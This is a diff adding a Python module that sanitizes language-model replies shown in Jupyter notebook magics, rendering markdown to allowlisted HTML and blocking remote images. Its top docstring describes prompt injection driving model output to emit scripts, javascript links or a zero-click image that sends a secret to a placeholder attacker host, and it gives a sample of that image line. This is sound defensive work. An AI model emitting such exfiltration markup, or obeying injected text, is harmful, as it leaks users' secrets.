@@ -1,0 +1,458 @@
+"""Kernel-side rendering of model output for the magics: markdown → sanitized HTML, MIME bundles.
+
+This is a security boundary. JupyterLab trusts outputs created in the session, so any HTML we
+emit runs with access to the user's kernel and files (notebook-platform.md §9.1). Model text is
+untrusted: a prompt injection can make it emit ``<script>``, ``javascript:`` links or zero-click
+exfiltration images (``![x](https://attacker/p.png?q=<secret>)``). Hence two layers:
+
+1. markdown-it-py with the ``js-default`` preset: raw HTML is escaped, unsafe link schemes are
+   refused; images become plain links (never ``<img>``), reference definitions are off.
+2. nh3 (ammonia) with an allowlist: no script/style/iframe/svg/math/img/form, no ``on*`` or
+   ``style`` attributes, URLs only http/https/mailto or ``#fragment``, ``rel=noopener`` links.
+
+Emphasis follows the CJK-friendly rule (``这是**重要的。**后文`` is bold, §9.4). Math is left as
+escaped TeX with its delimiters inside ``.ernie-math`` elements; JupyterLab's MathJax (run with
+its SafeHandler) typesets it, other front ends show the source.
+"""
+
+from __future__ import annotations
+
+import functools
+import html
+import json
+import re
+from typing import Any
+
+import nh3
+from markdown_it import MarkdownIt
+from markdown_it.common.utils import escapeHtml
+from markdown_it.rules_block import StateBlock
+from markdown_it.rules_inline import StateInline
+from markdown_it.token import Token
+from mdit_py_cjk_friendly import cjk_friendly
+
+__all__ = [
+    "FORMATS",
+    "HIGHLIGHT_CSS",
+    "bundle",
+    "extract_code",
+    "extract_code_blocks",
+    "render_code",
+    "render_html",
+    "render_markdown",
+    "sanitize",
+    "to_plain",
+]
+
+#: Output formats understood by :func:`bundle` (``md`` is accepted as an alias of ``markdown``).
+FORMATS = ("markdown", "text", "code", "json", "html", "math")
+
+# ---------------------------------------------------------------------------------------------------
+# Sanitizer policy
+
+_TAGS = {
+    "a", "abbr", "b", "blockquote", "br", "caption", "code", "dd", "del", "details", "div", "dl",
+    "dt", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "ins", "kbd", "li", "mark", "ol",
+    "p", "pre", "q", "s", "samp", "small", "span", "strong", "sub", "summary", "sup", "table",
+    "tbody", "td", "tfoot", "th", "thead", "tr", "u", "ul", "var",
+}  # fmt: skip
+# Dropped together with their content: what is inside them is code or markup, not prose.
+_DROP_WITH_CONTENT = {
+    "script", "style", "template", "noscript", "iframe", "object", "embed", "applet", "svg",
+    "math", "textarea", "select", "title", "xmp", "noembed", "noframes", "frameset",
+}  # fmt: skip
+_ATTRIBUTES = {
+    "a": {"href", "title", "class"},
+    "abbr": {"title"},
+    "ol": {"start"},
+    "th": {"align", "colspan", "rowspan"},
+    "td": {"align", "colspan", "rowspan"},
+    "code": {"class"},
+    "pre": {"class"},
+    "div": {"class"},
+    "span": {"class"},
+}
+# Classes are filtered too: an arbitrary class could borrow JupyterLab's own styling (jp-Dialog …)
+# to dress model text up as UI. Ours are prefixed; pygments' are 1–3 letters plus a digit.
+_CLASS_RULES = {
+    "a": re.compile(r"ernie-[a-z0-9-]{1,40}"),
+    "code": re.compile(r"language-[A-Za-z0-9_+#.-]{1,40}"),
+    "pre": re.compile(r"ernie-[a-z0-9-]{1,40}|highlight"),
+    "div": re.compile(r"ernie-[a-z0-9-]{1,40}"),
+    "span": re.compile(r"ernie-[a-z0-9-]{1,40}|[a-z]{1,3}[0-9]?"),
+}
+_NUMERIC = re.compile(r"[0-9]{1,6}")
+
+
+def _filter_attribute(tag: str, attr: str, value: str) -> str | None:
+    if attr == "class":
+        rule = _CLASS_RULES.get(tag)
+        kept = [c for c in value.split() if rule is not None and rule.fullmatch(c)]
+        return " ".join(kept) or None
+    if attr == "align":
+        return value.lower() if value.lower() in ("left", "center", "right") else None
+    if attr in ("start", "colspan", "rowspan"):
+        return value if _NUMERIC.fullmatch(value) else None
+    return value
+
+
+def _relative_url(url: str) -> str | None:
+    # Only in-page fragments; "/api/…" or "../files" would point at the Jupyter server itself.
+    return url if url.startswith("#") else None
+
+
+@functools.cache
+def _cleaner() -> nh3.Cleaner:
+    return nh3.Cleaner(
+        tags=_TAGS,
+        clean_content_tags=_DROP_WITH_CONTENT,
+        attributes=_ATTRIBUTES,
+        attribute_filter=_filter_attribute,
+        url_schemes={"http", "https", "mailto"},
+        url_relative=_relative_url,
+        link_rel="noopener noreferrer nofollow",
+        set_tag_attribute_values={"a": {"target": "_blank"}},
+        strip_comments=True,
+    )
+
+
+def sanitize(fragment: str) -> str:
+    """Sanitize an HTML fragment with the output allowlist policy (see the module docstring)."""
+    return _cleaner().clean(fragment)
+
+
+# ---------------------------------------------------------------------------------------------------
+# Markdown parser
+
+_SAFE_IMAGE_URL = re.compile(r"https?://", re.IGNORECASE)
+_MATH_SEARCH_LIMIT = 5_000  # bound the closing-delimiter search, so many stray "$" or "\(" stay cheap
+
+
+def _math_inline(state: StateInline, silent: bool) -> bool:
+    """``$…$``, ``$$…$$``, ``\\(…\\)`` and ``\\[…\\]`` inside a paragraph, kept verbatim."""
+    src, pos, end = state.src, state.pos, state.posMax
+    limit = min(end, pos + _MATH_SEARCH_LIMIT)
+    if src.startswith("$$", pos):
+        opener = closer = "$$"
+        close = src.find("$$", pos + 2, limit)
+    elif src[pos] == "$":
+        # Pandoc's rule, so prices stay text ("$5 and $10"): no space after the opening "$", no
+        # space before the closing one and no digit right after it. Stricter than pandoc, the
+        # closer is the next unescaped "$": if that one does not qualify, this is not math.
+        opener = closer = "$"
+        if pos + 1 >= end or src[pos + 1].isspace():
+            return False
+        close = pos + 1
+        while (close := src.find("$", close, limit)) > 0 and src[close - 1] == "\\":
+            close += 1
+        if close > 0 and (src[close - 1].isspace() or src[close + 1 : close + 2].isdigit()):
+            return False
+    elif src.startswith(("\\(", "\\["), pos):
+        opener = src[pos : pos + 2]
+        closer = "\\)" if opener == "\\(" else "\\]"
+        close = src.find(closer, pos + 2, limit)
+    else:
+        return False
+    start = pos + len(opener)
+    if close < 0 or not src[start:close].strip():
+        return False
+    if not silent:
+        token = state.push("math_inline", "span", 0)
+        token.content = src[start:close]
+        token.markup = opener
+        token.info = closer
+    state.pos = close + len(closer)
+    return True
+
+
+def _math_block(state: StateBlock, start_line: int, end_line: int, silent: bool) -> bool:
+    """A ``$$`` or ``\\[`` block; it may contain blank lines. Unclosed blocks are left to the paragraph rule."""
+    if state.sCount[start_line] - state.blkIndent >= 4:
+        return False
+    begin = state.bMarks[start_line] + state.tShift[start_line]
+    first = state.src[begin : state.eMarks[start_line]]
+    if first.startswith("$$"):
+        opener, closer = "$$", "$$"
+    elif first.startswith("\\["):
+        opener, closer = "\\[", "\\]"
+    else:
+        return False
+    rest = first[2:]
+    if closer in rest:  # one line: $$ … $$ (and nothing after it, else it is inline math)
+        body, _, after = rest.partition(closer)
+        if after.strip() or not body.strip():
+            return False
+        lines, last = [body], start_line
+    else:
+        lines, last = [rest], -1
+        for line in range(start_line + 1, end_line):
+            if (
+                state.sCount[line] < state.blkIndent
+                and state.bMarks[line] + state.tShift[line] < state.eMarks[line]
+            ):
+                break  # dedented out of the enclosing list/blockquote
+            text = state.src[state.bMarks[line] + state.tShift[line] : state.eMarks[line]]
+            if text.rstrip().endswith(closer):
+                lines.append(text.rstrip()[: -len(closer)])
+                last = line
+                break
+            lines.append(state.src[state.bMarks[line] : state.eMarks[line]])
+        if last < 0:
+            return False
+    if silent:
+        return True
+    token = state.push("math_block", "div", 0)
+    token.content = "\n".join(lines).strip("\n")
+    token.markup = opener
+    token.info = closer
+    token.map = [start_line, last + 1]
+    token.block = True
+    state.line = last + 1
+    return True
+
+
+def _render_math_inline(self: Any, tokens: list[Token], idx: int, options: Any, env: Any) -> str:
+    token = tokens[idx]
+    tex = token.markup + token.content + token.info
+    return f'<span class="ernie-math">{escapeHtml(tex)}</span>'
+
+
+def _render_math_block(self: Any, tokens: list[Token], idx: int, options: Any, env: Any) -> str:
+    token = tokens[idx]
+    tex = f"{token.markup}\n{token.content}\n{token.info}"
+    return f'<div class="ernie-math ernie-math-display">{escapeHtml(tex)}</div>\n'
+
+
+def _render_image(self: Any, tokens: list[Token], idx: int, options: Any, env: Any) -> str:
+    """Never ``<img>``: a remote image loads with zero clicks and can carry data out in its URL."""
+    token = tokens[idx]
+    src = str(token.attrGet("src") or "")
+    alt = self.renderInlineAsText(token.children or [], options, env)
+    label = escapeHtml("🖼 " + (alt or "image"))
+    inside_link = (
+        sum(1 if t.type == "link_open" else -1 if t.type == "link_close" else 0 for t in tokens[:idx]) > 0
+    )
+    if _SAFE_IMAGE_URL.match(src) and not inside_link:
+        return f'<a href="{escapeHtml(src)}" class="ernie-image-link">{label}</a>'
+    return f'<span class="ernie-image-blocked">{label}</span>'
+
+
+def _render_fence(self: Any, tokens: list[Token], idx: int, options: Any, env: Any) -> str:
+    token = tokens[idx]
+    highlight = bool(env.get("ernie_highlight", True)) if isinstance(env, dict) else True
+    return _code_html(token.content, _language(token.info), highlight=highlight) + "\n"
+
+
+def _render_cell_open(self: Any, tokens: list[Token], idx: int, options: Any, env: Any) -> str:
+    # markdown-it writes style="text-align:…"; style attributes are not allowed, `align` still works.
+    token = tokens[idx]
+    style = str(token.attrGet("style") or "")
+    align = style.removeprefix("text-align:")
+    attr = f' align="{align}"' if align in ("left", "center", "right") else ""
+    return f"<{token.tag}{attr}>"
+
+
+@functools.cache
+def _markdown() -> MarkdownIt:
+    md = MarkdownIt("js-default").use(cjk_friendly)
+    md.enable("table")
+    # Reference definitions ([id]: url) are invisible in the source a user skims; a model could hide
+    # a link target there. Off: such lines simply stay text.
+    md.disable("reference")
+    md.inline.ruler.before("escape", "ernie_math_inline", _math_inline)
+    md.block.ruler.after(
+        "fence", "ernie_math_block", _math_block, {"alt": ["paragraph", "blockquote", "list"]}
+    )
+    md.add_render_rule("math_inline", _render_math_inline)
+    md.add_render_rule("math_block", _render_math_block)
+    md.add_render_rule("image", _render_image)
+    md.add_render_rule("fence", _render_fence)
+    md.add_render_rule("th_open", _render_cell_open)
+    md.add_render_rule("td_open", _render_cell_open)
+    return md
+
+
+def render_markdown(text: str, *, highlight: bool = True) -> str:
+    """Render model markdown to sanitized HTML (no wrapper element).
+
+    ``highlight=False`` skips pygments for fenced code (cheaper while a reply is still streaming).
+    """
+    rendered = _markdown().render(text or "", {"ernie_highlight": highlight})
+    return sanitize(rendered)
+
+
+# ---------------------------------------------------------------------------------------------------
+# Code
+
+_LANGUAGE = re.compile(r"[A-Za-z0-9_+#.-]{1,40}")
+_MAX_HIGHLIGHT_CHARS = 200_000  # pygments on megabytes of code would stall the kernel
+
+
+def _language(info: str | None) -> str | None:
+    """The language name of a fence info string (```` ```python title="x" ````, ```` ```{python} ````)."""
+    if not info:
+        return None
+    word = info.strip().split(maxsplit=1)[0] if info.strip() else ""
+    word = word.strip("{}").lstrip(".")
+    match = _LANGUAGE.match(word)
+    return match.group(0) if match else None
+
+
+def _highlight(code: str, language: str | None) -> str | None:
+    """Pygments HTML (class spans only, text escaped) or None when no lexer fits."""
+    if not language or len(code) > _MAX_HIGHLIGHT_CHARS:
+        return None
+    try:
+        from pygments import highlight
+        from pygments.formatters import HtmlFormatter
+        from pygments.lexers import get_lexer_by_name
+        from pygments.util import ClassNotFound
+    except ImportError:  # pygments ships with IPython, but the renderer must not depend on it
+        return None
+    try:
+        lexer = get_lexer_by_name(language, stripnl=False, ensurenl=False)
+    except ClassNotFound:
+        return None
+    out = str(highlight(code, lexer, HtmlFormatter(nowrap=True)))
+    # The formatter ends every line, the last one too; keep the code's own ending.
+    return out[:-1] if out.endswith("\n") and not code.endswith("\n") else out
+
+
+def _code_html(code: str, language: str | None, *, highlight: bool = True) -> str:
+    body = _highlight(code, language) if highlight else None
+    pre_class = "ernie-code highlight" if body is not None else "ernie-code"
+    code_class = f' class="language-{language}"' if language else ""
+    return f'<pre class="{pre_class}"><code{code_class}>{body if body is not None else escapeHtml(code)}</code></pre>'
+
+
+def render_code(code: str, language: str | None, *, highlight: bool = True) -> str:
+    """An escaped ``<pre><code class="language-…">`` block, highlighted with pygments when possible.
+
+    Highlighting uses pygments' short classes under ``pre.highlight``; JupyterLab does not style
+    those, so :func:`bundle` adds :data:`HIGHLIGHT_CSS` (scoped to ``.ernie-output``).
+    """
+    return sanitize(_code_html(code or "", _language(language), highlight=highlight))
+
+
+# Pygments classes → JupyterLab's editor colour variables, so highlighting follows the theme.
+_TOKEN_COLOURS = {
+    "keyword": ("k", "kc", "kd", "kn", "kp", "kr", "kt", "ow"),
+    "string": ("s", "s1", "s2", "sa", "sb", "sc", "sd", "se", "sh", "si", "sx", "sr", "ss", "dl"),
+    "comment": ("c", "c1", "ch", "cm", "cp", "cpf", "cs"),
+    "number": ("m", "mb", "mf", "mh", "mi", "mo", "il"),
+    "operator": ("o",),
+    "builtin": ("nb", "bp"),
+    "def": ("nf", "fm", "nc", "nn"),
+    "variable": ("nv", "vc", "vg", "vi", "vm"),
+    "meta": ("nd",),
+    "tag": ("nt",),
+    "attribute": ("na",),
+    "punctuation": ("p",),
+    "error": ("err",),
+}
+#: Scoped stylesheet for highlighted code; only ever applies inside ``.ernie-output``.
+HIGHLIGHT_CSS = (
+    "".join(
+        f".ernie-output pre.highlight :is({','.join('.' + c for c in classes)})"
+        f"{{color:var(--jp-mirror-editor-{name}-color)}}"
+        for name, classes in _TOKEN_COLOURS.items()
+    )
+    + ".ernie-output pre.highlight :is(.c,.c1,.cm){font-style:italic}"
+)
+
+
+def extract_code_blocks(markdown: str) -> list[tuple[str | None, str]]:
+    """Fenced code blocks in order as ``(language, code)``, from the same parser the renderer uses.
+
+    An unclosed final fence (a reply still streaming) yields the code written so far.
+    """
+    tokens = _markdown().parse(markdown or "")
+    return [(_language(t.info), t.content) for t in tokens if t.type == "fence"]
+
+
+def extract_code(markdown: str) -> str:
+    """The code for ``-f code``: fenced blocks joined by blank lines, or the whole text if it has no fence."""
+    blocks = extract_code_blocks(markdown)
+    if not blocks:
+        return (markdown or "").strip()
+    return "\n\n".join(code.rstrip("\n") for _, code in blocks)
+
+
+# ---------------------------------------------------------------------------------------------------
+# Other formats and the MIME bundle
+
+
+def render_html(text: str, trusted: bool) -> str:
+    """``-f html``: untrusted → the source shown as code; trusted → sanitized (scripts never run)."""
+    if not trusted:
+        return render_code(text, "html")
+    return sanitize(text or "")
+
+
+def to_plain(text: str) -> str:
+    """The ``text/plain`` fallback: the model text itself, unchanged."""
+    return text
+
+
+def _latex_source(text: str) -> str:
+    """The TeX of a ``-f math`` reply, with display delimiters added if the model left them out."""
+    blocks = extract_code_blocks(text)
+    tex = (blocks[0][1] if blocks else text).strip()
+    if not tex.startswith(("$", "\\[", "\\(", "\\begin")):
+        tex = f"$$\n{tex}\n$$"
+    return tex
+
+
+def _json_reply(text: str) -> tuple[str, str | None]:
+    """Pretty JSON when the reply (or its first fenced block) parses; otherwise the text as is."""
+    candidates = [text]
+    blocks = extract_code_blocks(text)
+    if blocks:
+        candidates.append(blocks[0][1])
+    for candidate in candidates:
+        try:
+            value = json.loads(candidate)
+        except ValueError:
+            continue
+        return json.dumps(value, indent=2, ensure_ascii=False), "json"
+    return text, None
+
+
+def bundle(text: str, fmt: str, *, trust_html: bool = False, streaming: bool = False) -> dict[str, str]:
+    """A MIME bundle ``{"text/html", "text/plain"[, "text/latex"]}`` for one magic output.
+
+    ``fmt`` is one of :data:`FORMATS` (or ``md``). ``streaming=True`` marks a partial reply: no
+    syntax highlighting (it is re-rendered on every update) and an ``ernie-streaming`` class.
+    """
+    fmt = "markdown" if fmt == "md" else fmt
+    text = text or ""
+    highlight = not streaming
+    plain = to_plain(text)
+    data: dict[str, str] = {}
+    if fmt == "markdown":
+        inner = render_markdown(text, highlight=highlight)
+    elif fmt == "text":
+        inner = f'<pre class="ernie-text">{html.escape(text, quote=False)}</pre>'
+    elif fmt == "code":
+        blocks = extract_code_blocks(text)
+        plain = extract_code(text)
+        inner = render_code(plain, blocks[0][0] if blocks else None, highlight=highlight)
+    elif fmt == "json":
+        plain, language = _json_reply(text)
+        inner = render_code(plain, language, highlight=highlight)
+    elif fmt == "html":
+        inner = render_html(text, trust_html)
+    elif fmt == "math":
+        tex = _latex_source(text)
+        # A div, not a <pre>: JupyterLab's MathJax skips <pre> but typesets this (safely, with its
+        # SafeHandler); elsewhere the escaped TeX shows as text.
+        inner = f'<div class="ernie-math ernie-math-display">{html.escape(tex, quote=False)}</div>'
+        if "<" not in tex and ">" not in tex:
+            data["text/latex"] = tex
+    else:
+        raise ValueError(f"unknown output format {fmt!r}; expected one of {', '.join(FORMATS)}")
+    classes = f"ernie-output ernie-{fmt}" + (" ernie-streaming" if streaming else "")
+    style = f"<style>{HIGHLIGHT_CSS}</style>" if 'class="ernie-code highlight"' in inner else ""
+    data["text/html"] = f'<div class="{classes}">{style}{inner}</div>'
+    data["text/plain"] = plain
+    return data
